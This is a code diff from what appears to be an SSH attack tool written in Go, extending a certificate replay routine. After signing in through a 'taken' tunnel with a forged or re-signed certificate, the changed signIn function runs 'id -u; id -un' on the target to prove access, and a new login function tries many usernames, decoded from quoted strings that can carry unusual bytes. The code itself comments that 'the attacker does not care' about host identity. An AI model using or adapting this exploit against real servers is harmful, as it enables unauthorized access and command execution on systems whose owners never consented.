@@ -11,10 +11,10 @@ import (
 	"io"
 	"maps"
 	"math"
-	"net"
 	"net/http"
 	"net/netip"
 	"os"
+	"strconv"
 	"strings"
 	"time"
 
@@ -116,7 +116,7 @@ func replay(ctx context.Context, target, user, certFile string) error {
 	defer t.close()
 	for _, o := range all {
 		var said bytes.Buffer
-		accepted, err := signIn(ctx, func(ctx context.Context) (net.Conn, error) { return t.tunnel.Dial(ctx, addr) }, user, o, &said)
+		accepted, err := t.signIn(ctx, addr, user, o, &said)
 		if err != nil && said.Len() == 0 {
 			fmt.Fprint(&said, err)
 		}
@@ -125,16 +125,17 @@ func replay(ctx context.Context, target, user, certFile string) error {
 	return nil
 }
 
-func signIn(ctx context.Context, dial func(context.Context) (net.Conn, error), user string, o offer, said io.Writer) (bool, error) {
+// signIn signs in and, when that worked, runs a command. What was said on the way goes to said.
+func (t *taken) signIn(ctx context.Context, to netip.AddrPort, user string, o offer, said io.Writer) (bool, error) {
 	ctx, cancel := context.WithTimeout(ctx, patience)
 	defer cancel()
-	nc, err := dial(ctx)
+	nc, err := t.tunnel.Dial(ctx, to)
 	if err != nil {
 		return false, err
 	}
 	defer nc.Close()
 	nc.SetDeadline(time.Now().Add(patience))
-	cl, _, _, err := ssh.NewClientConn(nc, "", &ssh.ClientConfig{
+	c, chans, reqs, err := ssh.NewClientConn(nc, "", &ssh.ClientConfig{
 		User: user, Auth: []ssh.AuthMethod{ssh.PublicKeys(o.Signer)},
 		HostKeyCallback: ssh.InsecureIgnoreHostKey(), // the attacker does not care who it is
 		BannerCallback: func(b string) error {
@@ -145,8 +146,53 @@ func signIn(ctx context.Context, dial func(context.Context) (net.Conn, error), u
 	if err != nil {
 		return false, err
 	}
-	cl.Close()
-	return true, nil
+	cl := ssh.NewClient(c, chans, reqs)
+	defer cl.Close()
+	s, err := cl.NewSession()
+	if err != nil {
+		return true, err
+	}
+	out, err := s.CombinedOutput("id -u; id -un")
+	fmt.Fprintf(said, "%s", out)
+	return true, err
+}
+
+// login signs in under each name.
+func login(ctx context.Context, target, certFile string, names []string) error {
+	addr, err := netip.ParseAddrPort(target)
+	if err != nil {
+		return err
+	}
+	c, err := readCertificate(certFile)
+	if err != nil {
+		return err
+	}
+	key, err := ownersKey()
+	if err != nil || key == nil {
+		return errors.Join(err, errors.New("login needs KEY"))
+	}
+	own, err := ssh.NewSignerFromKey(key)
+	if err != nil {
+		return err
+	}
+	t, err := takeOver(ctx)
+	if err != nil {
+		return err
+	}
+	defer t.close()
+	for _, quoted := range names {
+		name, err := strconv.Unquote(quoted) // no argument can hold a zero byte
+		if err != nil {
+			return err
+		}
+		var said bytes.Buffer
+		accepted, err := t.signIn(ctx, addr, name, offer{name, shows{own, c}}, &said)
+		if err != nil && said.Len() == 0 {
+			fmt.Fprint(&said, err)
+		}
+		attempt{name, accepted, strings.TrimSpace(said.String())}.print()
+	}
+	return nil
 }
 
 // forge writes the re-signed certificate with its key, as ssh reads them.
